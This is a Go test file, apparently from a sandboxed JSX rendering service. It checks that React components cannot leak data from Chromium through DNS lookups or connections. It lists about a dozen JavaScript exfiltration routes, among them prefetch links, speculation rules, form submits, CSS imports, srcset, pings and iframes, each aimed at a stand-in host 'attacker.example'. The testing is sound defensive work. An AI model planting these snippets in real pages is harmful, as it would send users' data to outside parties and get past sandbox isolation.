package browser

import (
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/codeexec/codeexec-operator/internal/jsxbuild"
)

// dnsRoutes are the ways a component can make the browser resolve a name
// (which carries data to whoever answers for the domain) or open a
// connection without a request. NAME is replaced by a per-route label.
var dnsRoutes = []struct {
	name, code string
	// document is set where the document and the host page close the
	// route alone; the others need the browser policies of
	// Manifest.Host.BrowserPolicies (docs/jsx-security.md).
	document bool
}{
	// The routes the document closes come first, so that no late packet
	// of an earlier speculative connection is taken for theirs.
	{"link prefetch prerender modulepreload", "for (const rel of ['prefetch', 'prerender', 'modulepreload', 'preload', 'stylesheet']) { const l = document.createElement('link'); l.rel = rel; l.as = 'image'; l.href = 'http://' + rel + '.' + H + '/x'; document.head.appendChild(l); }", true},
	{"speculation rules", "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['http://' + H + '/spec'] }], prerender: [{ source: 'list', urls: ['http://pr.' + H + '/spec'] }] }); document.head.appendChild(s);", true},
	{"form action", "const f = document.createElement('form'); f.action = 'http://' + H + '/form'; f.method = 'POST'; document.body.appendChild(f); f.submit();", true},
	{"css url import image-set", "const s = document.createElement('style'); s.textContent = '@import url(http://imp.' + H + '/i.css); body { background: image-set(url(http://is.' + H + '/a.png) 1x); } p { background: url(http://bg.' + H + '/b.png); }'; document.head.appendChild(s);", true},
	{"img srcset and svg href", "document.body.insertAdjacentHTML('beforeend', '<img srcset=\"http://srcset.' + H + '/a.png 1x\"><svg><image href=\"http://svg.' + H + '/s.png\" width=\"1\" height=\"1\"/><a href=\"http://svga.' + H + '/\"><text>x</text></a></svg><math><mi href=\"http://math.' + H + '/\">x</mi></math>');", true},
	{"window.open and odd schemes", "try { window.open('http://' + H + '/popup'); } catch (e) {} for (const u of ['ftp://ftp.' + H + '/', 'ws://ws.' + H + '/', 'wss://wss.' + H + '/', '//rel.' + H + '/']) { try { const a = document.createElement('a'); a.href = u; a.target = '_blank'; document.body.appendChild(a); a.click(); } catch (e) {} }", true},
	{"link dns-prefetch", "const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = 'http://' + H; document.head.appendChild(l);", false},
	{"link preconnect", "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'http://' + H; document.head.appendChild(l);", false},
	{"self navigation", "location.href = 'http://' + H + '/nav';", false},
	{"meta refresh", "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=\"refresh\" content=\"0;url=http://' + H + '/refresh\">');", false},
	{"anchor click with ping", "const a = document.createElement('a'); a.href = 'http://' + H + '/a'; a.ping = 'http://' + H + '/ping'; document.body.appendChild(a); a.click();", false},
	{"nested frame src", "const f = document.createElement('iframe'); f.src = 'http://' + H + '/frame'; document.body.appendChild(f);", false},
}

const dnsComponent = `import { useEffect } from 'react';
const H = 'cxdns-NAME.attacker.example';
export default function Dns() {
  useEffect(() => { setTimeout(() => { CODE }, 50); }, []);
  return <p>resolving</p>;
}
`

// TestBrowserDNSRoutes renders every route twice, each time in a Chromium
// of its own on the two-network wire: without host-side browser policies
// (the document and the host page alone) and with the manifest's browser
// policies as managed policies (inside the test's private mount namespace,
// never the machine's /etc). With the policies nothing may reach the wire;
// without them only the routes marked as needing the policies may, and
// then only as DNS queries and TCP connections without a byte.
func TestBrowserDNSRoutes(t *testing.T) {
	for _, withPolicies := range []bool{false, true} {
		name := "document and host page"
		var policies map[string]any
		if withPolicies {
			name = "with the manifest's browser policies"
			policies = jsxbuild.DefaultHostRequirements().BrowserPolicies
		}
		t.Run(name, func(t *testing.T) {
			h := reviewHarness(t, policies)
			for _, r := range dnsRoutes {
				t.Run(r.name, func(t *testing.T) {
					label := strings.NewReplacer(" ", "-", ".", "").Replace(r.name)
					src := strings.ReplaceAll(strings.ReplaceAll(dnsComponent, "CODE", r.code), "NAME", label)
					tb := h.render(t, src)
					tb.waitMessage("rendered")
					if err := chromedp.Do(tb.ctx, chromedp.Sleep(3*time.Second)); err != nil {
						t.Fatal(err)
					}
					tb.check(!withPolicies && !r.document)
				})
			}
		})
	}
}
